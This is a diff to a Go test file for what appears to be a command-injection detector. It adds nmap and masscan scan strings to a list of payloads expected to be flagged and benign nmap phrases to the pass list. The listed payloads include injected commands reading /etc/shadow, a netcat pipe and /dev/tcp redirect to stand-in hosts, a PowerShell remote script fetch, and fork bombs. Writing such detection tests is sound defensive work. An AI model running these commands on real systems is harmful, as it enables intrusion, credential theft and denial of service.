@@ -58,12 +58,14 @@ func probeCases() []langCase {
 	for _, p := range []string{"whoami;x", "id|nc h 1", "uname -a&&echo", "hostname; ls", "python3<<<'print(1)'", ";bc<<<2*3", "x=$t/udp/10.0.0.9/53", "a=/dev;cat</dev/null>${a}/tcp/h.example/4444",
 		"bomb() { bomb | bomb & } bomb", "f(){ f|f& };f", "~+", "~-", "~+2", "|cd /;cd var;ls", "&& cd /etc; cat shadow",
 		"ansible-playbook -i hosts play.yml", "chef-client -z", "knife ssh -x root 'name:*' uptime", "cscli decisions list", "visudo", "time; cscli bouncers list", "true; knife status",
-		"zcat /var/log/auth.log.1.gz", "visudo\n", "alias -p ll=rm", `IF "a b" == "a b" echo x`, "if errorlevel 2 if not errorlevel 3 echo two", "gunzip -c /var/log/syslog.2.gz", "xzcat /etc/backup.xz", "bzcat /root/db.bz2", ";regedit /s x.reg", "&bcdedit /set safeboot", "; iwr https://h.example/a.ps1", ">/tmp/x", ">> /dev/shm/.k"} {
+		"zcat /var/log/auth.log.1.gz", "visudo\n", "alias -p ll=rm", `IF "a b" == "a b" echo x`, "if errorlevel 2 if not errorlevel 3 echo two", "gunzip -c /var/log/syslog.2.gz", "xzcat /etc/backup.xz", "bzcat /root/db.bz2", ";regedit /s x.reg", "&bcdedit /set safeboot", "; iwr https://h.example/a.ps1", ">/tmp/x", ">> /dev/shm/.k",
+		"nmap -sV 10.0.0.1", "masscan -p80 10.0.0.0/8", "nmap -p 22,80 -Pn db.internal.example"} {
 		out = append(out, langCase{KindQueryValue, "cmd", p, ""}, langCase{KindBodyValue, "code", p, ""})
 		out[len(out)-1].rule, out[len(out)-2].rule = "rce", "rce"
 	}
 	for _, b := range []string{"whoami (the command) prints your name", "id card; passport", "id: 42; name: x", "~ 5 minutes", "~/projects", "~+ approx", "a << b", "x <<< y is a diff marker",
-		"install ansible, then run playbooks", "chef; cook", "Visudo edits sudoers safely", "gunzip the file", "zcat", "time: 5pm; place: hall", "f() { return a && b } g", "cd src; make", "an alias is a=b", "if (a == b) return", "knife cuts the bread", "ansible is great", "cscli is the CrowdSec CLI", "> /tmp is full", "->/tmp/x"} {
+		"install ansible, then run playbooks", "chef; cook", "Visudo edits sudoers safely", "gunzip the file", "zcat", "time: 5pm; place: hall", "f() { return a && b } g", "cd src; make", "an alias is a=b", "if (a == b) return", "knife cuts the bread", "ansible is great", "cscli is the CrowdSec CLI", "> /tmp is full", "->/tmp/x",
+		"nmap tutorial for beginners", "how to use nmap -sV", "nmap"} {
 		out = append(out, langCase{KindQueryValue, "q", b, ""}, langCase{KindBodyValue, "text", b, ""})
 	}
 	// JavaScript probes: timers, codecs and dialogs called alone; DOM
